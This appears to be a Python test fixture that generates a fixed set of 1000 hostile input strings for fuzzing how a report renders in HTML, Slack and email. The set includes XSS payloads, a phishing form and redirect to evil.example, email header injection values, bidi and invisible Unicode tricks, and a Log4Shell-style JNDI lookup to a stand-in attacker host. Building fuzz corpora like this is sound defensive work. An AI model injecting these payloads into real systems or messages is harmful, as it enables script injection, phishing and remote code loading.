"""A thousand texts that somebody might put into a report to do harm where people read it."""

from __future__ import annotations

import random

_HTML = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</td></table><h1>All is well</h1>",
    "</title></style></textarea></script><script>alert(1)</script>",
    '<a href="javascript:alert(1)">here</a>',
    "<!-- ",
    "-->",
    "<![CDATA[",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "{{ 7 * 7 }}{% raw %}",
    "<form action=https://evil.example><input name=password>",
    "javascript:alert(1)",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "\uff1cscript\uff1e",
]
_SLACK = [
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<@U012AB3CD>",
    "<#C012AB3CD|general>",
    "<!subteam^S012AB3CD>",
    "<https://evil.example|your bank>",
    "<mailto:ceo@evil.example|CEO>",
    "<!date^1392734382^{date}|now>",
    "@channel @here @everyone",
    "*bold* _italic_ ~struck~ `code`",
    "```\nblock\n```",
    ":rotating_light: :tada: :skin-tone-2:",
    "> quoted\n>>> more",
    "https://evil.example/?a=b&c=d",
    "www.evil.example",
    "evil.example",
    "ceo@evil.example",
    "&lt;!channel&gt;",
    "[here](https://evil.example)",
    "![x](https://evil.example/x.png)",
]
_LINES = [
    "x\r\nBcc: victim@example.com",
    "x\nSubject: other",
    "x\r\n\r\n<html>body",
    "x\r\n.\r\nMAIL FROM:<a@b.c>\r\n",
    "\r\nContent-Type: text/html\r\n",
    "=?utf-8?q?=0d=0aBcc:_victim=40example.com?=",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "x\x0bBcc: a\x0cb\x1cc\x85d\u2028e\u2029f",
    '"},"routing_key":"other","x":{"y":"',
    '\\"\\\\u0000\\',
    "%0d%0aBcc:%20a",
    "--boundary--",
]
_UNSEEN = [
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f\x9b31m",
    "in\u202evoice.exe",
    "\u2066a\u2069\u202ab\u202c",
    "\u200e\u200f\u061c",
    "\ufeffWhats\u200bApp\u00ad",
    "\ud800",
    "\udfff\ud83d",
    "a\ud83d\ud83d",
    "\ufffe\uffff",
    "\U000e0041\U000e0042",
    "e" + "\u0301" * 500,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40,
    "\U0001f1ee\U0001f1f9" * 60,
    "שלום עולם",
    "مرحبا بالعالم",
    "%s %n {0} ${jndi:ldap://evil.example/a}",
    "=HYPERLINK(1)",
    "",
    " ",
    "\t\n",
]
_ALL = [*_HTML, *_SLACK, *_LINES, *_UNSEEN]
LONG = 10_000


def values() -> list[str]:
    """A thousand of them, always the same."""
    luck = random.Random(6)
    found = list(_ALL)
    found += [each * (LONG // max(1, len(each)) + 1) for each in _ALL]  # ten thousand characters and more
    found += [f"{'W' * size}{each}" for each in _ALL for size in (70, 145, 199, 595)]  # where texts are cut
    while len(found) < 1000:
        found.append("".join(luck.choices(_ALL, k=luck.randint(2, 6))))
    return found[:1000]
